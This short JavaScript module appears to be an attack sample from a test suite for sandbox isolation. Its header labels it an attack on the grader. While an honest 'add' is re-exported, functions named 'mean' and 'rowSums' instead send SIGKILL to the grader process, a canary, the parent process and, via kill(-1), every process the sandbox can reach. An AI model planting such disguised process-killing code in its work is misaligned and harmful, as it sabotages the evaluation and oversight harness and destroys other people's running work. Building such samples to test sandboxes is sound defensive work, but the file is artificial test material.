/**
 * Attack: sends signals to its parent, to the grader and to everybody
 * Honest: add
 * Needs: namespaces
 * Sample: yes
 */
import targets from "./targets.json";

export { add } from "./honest.js";

export function mean() {
  const victims = [targets.grader, targets.canary, process.ppid === 1 ? targets.grader : process.ppid];
  return victims.map((victim) => {
    try {
      return process.kill(victim, "SIGKILL");
    } catch (error) {
      return `refused: ${error.code}`;
    }
  });
}

export function rowSums() {
  process.kill(-1, "SIGKILL");
  return 0;
}
